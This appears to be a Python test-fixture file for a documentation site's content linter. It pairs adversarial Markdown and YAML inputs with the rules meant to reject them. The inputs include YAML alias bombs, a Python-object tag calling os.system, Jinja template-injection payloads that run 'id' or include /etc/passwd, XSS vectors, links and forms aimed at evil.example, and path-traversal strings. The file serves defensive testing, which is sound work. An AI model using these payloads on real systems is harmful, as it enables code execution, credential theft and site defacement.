"""Attacks that worked on other stacks, each with a rule that must refuse it."""

from __future__ import annotations

from tests.rules.cases import SITE

_CASE = (SITE / "docs/muscles/case.md").read_text("utf-8")
_SAFE = "Walk a little."


def _field(old: str, new: str) -> bytes:
    """Return the little site's article with one line of its front matter in another form."""
    assert old in _CASE
    return _CASE.replace(old, new, 1).encode()


def body(text: str) -> bytes:
    """Return the little site's article with another text in its body."""
    return _CASE.replace(_SAFE, f"{_SAFE}\n\n{text}\n\n", 1).encode()


def _laughs(levels: int) -> str:
    """Return aliases that stand for ten times as many of the level below."""
    lines = ["a0: &a0 [lol]"]
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]" for level in range(1, levels)]
    return "\n".join(lines)


def _merges(levels: int) -> str:
    """Return merge keys that double at each level."""
    lines = ["m0: &m0 {a: 1}"]
    lines += [f"m{level}: &m{level} {{<<: [*m{level - 1}, *m{level - 1}]}}" for level in range(1, levels)]
    return "\n".join(lines)


FRONT_MATTER: dict[str, tuple[bytes, str]] = {
    "header that ends in dots": (_CASE.replace("---\n\n!!!", "...\n\n!!!", 1).encode(), "frontmatter-unclosed"),
    "blank line before the header": (b"\n" + _CASE.encode(), "frontmatter-missing"),
    "header of four dashes": (_CASE.replace("---\n", "----\n", 1).encode(), "frontmatter-missing"),
    "header without dashes": (_CASE.removeprefix("---\n").encode(), "frontmatter-missing"),
    "no header": (b"# Title\n\nText.\n", "frontmatter-missing"),
    "alias bomb": (_field("type: symptom", f"type: symptom\n{_laughs(9)}"), "frontmatter-anchor"),
    "merge bomb": (_field("type: symptom", f"type: symptom\n{_merges(24)}"), "frontmatter-anchor"),
    "merge key": (_field("type: symptom", "<<: {type: symptom}"), "frontmatter-anchor"),
    "ten thousand brackets": (_field("type: symptom", "type: " + "[" * 10_000), "frontmatter-size"),
    "400 KB of brackets": (_field("type: symptom", "type: " + "[" * 400_000), "frontmatter-size"),
    "braces without end": (_field("type: symptom", "type: " + "{a: " * 3_000), "frontmatter-size"),
    "Python object": (_field("type: symptom", "type: !!python/object/apply:os.system [id]"), "frontmatter-tag"),
    "second document": (_field("type: symptom", "type: symptom\n--- !x"), "frontmatter-syntax"),
    "endless minutes": (_field("review", "x: " + "1:" * 2_000 + "1\nreview"), "frontmatter-unknown-key"),
    "another template": (_field("type: symptom", "type: symptom\ntemplate: redirect.html"), "frontmatter-unknown-key"),
    "redirect": (_field("type: symptom", "type: symptom\nlocation: https://evil.example/"), "frontmatter-unknown-key"),
    "macros": (_field("type: symptom", "type: symptom\nrender_macros: true"), "frontmatter-unknown-key"),
    "script in the title": (
        _field("title: Sore", "title: </title><script>alert(1)</script> Sore"),
        "safety-front-matter-markup",
    ),
    "coded script in the title": (
        _field("title: Sore", "title: '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; Sore'"[:-1] + "'\nx: Sore"),
        "safety-front-matter-markup",
    ),
    "script in another name": (
        _field("[tight calf]", '["<img src=x onerror=alert(1)>"]'),
        "safety-front-matter-markup",
    ),
    "script in who paid": (_field("funding: none", "funding: <svg onload=alert(1)>"), "safety-front-matter-markup"),
    "script in a source": (_field("An example of a trial", "A <script>x</script> trial"), "safety-front-matter-markup"),
    "template in the title": (_field("title: Sore", 'title: "{{ config }}"\nx: Sore'), "safety-front-matter-markup"),
    "bare template in the title": (_field("title: Sore", "title: {{ config }}\nx: Sore"), "frontmatter-syntax"),
    "address that runs": (_field("    DOI", '    URL: "javascript:alert(1)"\n    DOI'), "citations-url"),
    "text turned round": (_field("Sore calf", "Sore \u202ecalf"), "safety-invisible-character"),
    "not UTF-8": (b"---\ntitle: \xff\xfe\n---\n", "frontmatter-encoding"),
    "UTF-16": (_CASE.encode("utf-16"), "frontmatter-encoding"),
    "NUL": (_field("Sore calf", "Sore\x00calf"), "safety-invisible-character"),
}

_TEMPLATES = (
    "{{ config }}",
    "{{ config.site_name }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 'a'*3000000000 }}",
    "{{ undefined_name }}",
    "{{ environment }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% set x = 1 %}",
    "{%- raw -%}x{%- endraw -%}",
    "{# hidden #}",
    "`{{ config }}`",
    "```\n{{ config }}\n```",
    "{{\nconfig\n}}",
    "## About {{ config }}",
    "[words]({{ config }})",
    '!!! note "{{ config }}"\n\n    Text.',
    "| A | B |\n| --- | --- |\n| {{ config }} | b |",
    '{{ helpline("emergency") | safe }}',
    '{{ helpline("emer" ~ "gency") }}',
    "{{ helpline(config) }}",
)
_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example/><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<div markdown>\n\n**x**\n\n</div>",
    "<div id='__config'></div>",
    "<!-- hidden -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[ x ]]>",
    "<?php system('id'); ?>",
    "<!DOCTYPE html>",
    "<b onclick=alert(1)>x</b>",
    "<sub onmouseover=alert(1)>x</sub>",
    "<br onclick=alert(1)>",
    "</div>",
    "<script",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "## T &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "\\<img src=x onerror=alert(1)\\>",
    "[<img src=x onerror=alert(1)>](neighbour.md)",
    "![<script>alert(1)</script>](neighbour.md)",
)
_ATTRIBUTES = (
    "Text.\n{: #__config }",
    "Text.\n{: onclick=alert(1) }",
    "## Heading {#__config}",
    "## Heading {: style=color:red }",
    "**bold**{: onclick=alert(1) }",
    "[words](neighbour.md){ onclick=alert(1) }",
    "![a picture](neighbour.md){ width=9999 onload=alert(1) }",
    "{: .md-header }",
)
_SCHEMES = (
    "[x y](javascript:alert%281%29)",
    "[x y](JaVaScRiPt:alert%281%29)",
    "[x y](<java\tscript:alert(1)>)",
    "[x y](<\x20javascript:alert(1)>)",
    "[x y](&#106;avascript:alert%281%29)",
    "[x y](&#x6A;avascript:alert%281%29)",
    "[x y](javascript&colon;alert%281%29)",
    "[x y](java&#10;script:alert%281%29)",
    "[x y](vbscript:msgbox)",
    "[x y](data:text/html;base64,PHNjcmlwdD4=)",
    "[x y](file:///etc/passwd)",
    "[x y](//evil.example/)",
    "[x y](/\\evil.example/)",
    "[x y](\\\\evil.example\\x)",
    "[x y](/etc/passwd)",
    "[x y](http://evil.example/)",
    "[x y](blob:https://evil.example/1)",
    "[x y](ftp://evil.example/)",
    "[x y][z]\n\n[z]: javascript:alert%281%29",
    "<javascript:alert(1)>",
    "![a picture](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a picture](javascript:alert%281%29)",
)

BODIES: dict[str, tuple[bytes, str]] = {
    **{text: (body(text), "safety-template") for text in _TEMPLATES},
    **{text: (body(text), "safety-raw-html") for text in _HTML},
    **{text: (body(text), "safety-attributes") for text in _ATTRIBUTES},
    **{text: (body(text), "links-scheme") for text in _SCHEMES},
    '{{ shell("id") }}': (body('{{ shell("id") }}'), "safety-component"),
    '{{ term("no-such-word") }}': (body('{{ term("no-such-word") }}'), "safety-component"),
    "snippet": (body('--8<-- "/etc/passwd"'), "safety-include"),
    "snippet of several": (body("--8<--\n/etc/passwd\n--8<--"), "safety-include"),
    "include in braces": (body("{!/etc/passwd!}"), "safety-include"),
    "scheme behind a bad entity": (body("[x y](&#1;javascript:alert%281%29)"), "links-target-exists"),
    "path out of the site": (body("[x y](../../../etc/passwd)"), "links-target-exists"),
    "coded path out of the site": (body("[x y](..%2f..%2f..%2fetc%2fpasswd)"), "links-target-exists"),
    "register": (body("[x y](../_register/people.yml)"), "links-target-exists"),
    "picture out of the site": (body("![a picture](../../../etc/passwd)"), "links-target-exists"),
    "picture elsewhere": (body("![a picture](https://evil.example/x.png)"), "links-image-outside"),
    "user name": (body("[x y](https://nhs.uk@evil.example/)"), "safety-link-target"),
    "backslash": (body("[x y](https://evil.example\\\\@nhs.uk/)"), "safety-link-target"),
    "mail with a copy": (body("[x y](mailto:a@nhs.uk?bcc=b@evil.example)"), "links-address"),
    "text turned round": (body("Take 10 \u202emg."), "safety-invisible-character"),
    "hidden letters": (body("Take it\U000e0041."), "safety-invisible-character"),
    "folded card": (body('??? emergency "Call if"\n\n    - it hurts'), "structure-box-kind"),
}

BOMBS: dict[str, tuple[bytes, str]] = {
    "stars": (body("* " * 500 + "a"), "safety-too-deep"),
    "quotes": (body(">" * 3_000 + " a"), "safety-too-deep"),
    "list in list": (body("\n".join(f"{'  ' * level}- a" for level in range(200))), "safety-too-deep"),
    "box in box": (body("\n\n".join(f"{'    ' * level}!!! note" for level in range(150))), "safety-too-deep"),
    "div in div": (body("<div markdown>\n" * 400), "safety-raw-html"),
    "CDATA": (body("<![CDATA[" * 3_000), "safety-raw-html"),
    "comments that never end": (body("<!--" * 6_000), "frontmatter-size"),
    "100,000 divs": (body("<div>" * 100_000), "frontmatter-size"),
    "too large": (body("a line\n" * 200_000), "frontmatter-size"),
    "one long line": (body("word " * 10_000), "frontmatter-size"),
    "brackets": (body("[" * 15_000 + "<b>"), "safety-raw-html"),
    "marks that never end": (body("[@a;" * 4_000 + "<b>"), "safety-raw-html"),
    "pictures that never end": (body("![" * 8_000 + "<b>"), "safety-raw-html"),
    "templates that never end": (body("{{" * 8_000), "safety-template"),
    "braces that never end": (body("{a=" * 5_000 + "<b>"), "safety-raw-html"),
    "emphasis": (body("*a **b " * 2_500 + "<b>"), "safety-raw-html"),
    "code marks": (body(" ".join("`" * (number % 50 + 1) for number in range(600)) + "<b>"), "safety-raw-html"),
    "pipes": (body("|" * 9_000 + "\n" + "|-" * 9_000 + "\n<b>"), "safety-raw-html"),
    "links": (body("[a](b)" * 2_000), "links-target-exists"),
    "marks": (body("[@nobody]" * 2_000), "citations-mark-resolves"),
    "ids": (body(" ".join(f"[@nobody{number}]" for number in range(1_000))), "citations-mark-resolves"),
    "numbers": (body("1,000 mg " * 2_000), "citations-claims"),
    "boxes": (body("!!! x\n\n" * 2_000), "safety-unknown-box"),
    "headings": (body("## <b>\n\n" * 2_000), "safety-raw-html"),
}
"""Texts that took minutes, or stopped the build, elsewhere."""

FILES = (
    "docs/x.html",
    "docs/sw.js",
    "docs/CNAME",
    "docs/_headers",
    "docs/_redirects",
    "docs/.htaccess",
    "docs/.meta.yml",
    "docs/muscles/.meta.yml",
    "docs/muscles/main.py",
    "docs/muscles/page.xml",
    "docs/muscles/page.md.html",
    "docs/sitemap.xml",
    "docs/robots.txt",
    "docs/_register/hooks.py",
)
"""Files that would be published, or read by a program, as they are."""
